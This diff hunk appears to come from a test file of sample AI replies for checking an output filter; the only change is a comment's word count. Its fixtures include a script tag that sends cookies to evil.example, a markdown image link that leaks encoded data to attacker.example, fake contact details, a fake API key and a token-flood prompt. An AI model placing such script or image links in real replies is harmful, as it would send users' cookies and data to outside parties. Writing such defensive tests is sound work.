@@ -47,7 +47,7 @@ SCRIPT_REPLY = "Here is your widget: <script>fetch('https://evil.example/?c='+do
 EXFIL_REPLY = "Done. ![status](https://attacker.example/pixel.png?d=Q3VzdG9tZXIgbGlzdA) All good."
 PII_REPLY = "You can reach the account owner at jane.doe@example.com or +1 415 555 0100."
 SECRET = "sk-proj-" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0U1v2"
-# About 20,000 words: a handful of these are a token flood, not a request flood.
+# About 22,000 words: a handful of these are a token flood, not a request flood.
 LONG_PROMPT = "Please review this quarterly report about revenue growth in the northern region. " * 1700
 
 
